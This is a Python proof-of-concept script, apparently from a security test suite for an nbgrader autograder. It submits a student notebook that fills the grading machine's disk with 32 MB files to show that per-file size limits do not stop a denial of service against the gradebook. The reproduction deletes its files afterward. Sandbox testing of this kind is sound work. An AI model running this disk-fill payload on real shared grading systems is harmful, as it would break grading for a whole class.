"""HOLE: nothing limits how much a student's code writes to its working folder, which lies on the grading machine's
own disk (under /tmp, usually the disk holding the course and gradebook.db): RLIMIT_FSIZE caps one file (64 MB),
not the number of files. In a 300 s notebook a student can fill the disk, and then nbgrader's writes to the
gradebook fail for the whole class. Here the student writes GB gigabytes (default 1.5) and reports how much it got.
Run: .venv/bin/python tests/attacks/disk_fill.py [course-cache-dir] [GB]
"""
import sys

import nbformat
from common import ASSIGNMENT, grade, new_course, notebook_names, submit, with_code

GB = float(sys.argv[2]) if len(sys.argv) > 2 else 1.5
CODE = f'''import os
written = 0
chunk = b"x" * (32 * 1024 * 1024)
try:
    while written < {GB} * 1024 ** 3:
        with open(f"fill-{{written}}.bin", "wb") as handle:
            handle.write(chunk)
        written += len(chunk)
finally:
    print("WROTE MB", written // 2 ** 20)
    for name in os.listdir("."):
        if name.startswith("fill-"):
            os.remove(name)  # the reproduction cleans up; an attacker would not
'''

if __name__ == "__main__":
    course = new_course(sys.argv[1] if len(sys.argv) > 1 else None)
    submit(course, "x-disk", with_code(course, {"etiquette-answer": CODE}))
    done, seconds = grade(course)
    nb = nbformat.read(course / "autograded" / "x-disk" / ASSIGNMENT / f"{notebook_names(course)[0]}.ipynb", 4)
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "etiquette-answer")
    print([o.get("text", o.get("evalue", "")) for o in cell.outputs])
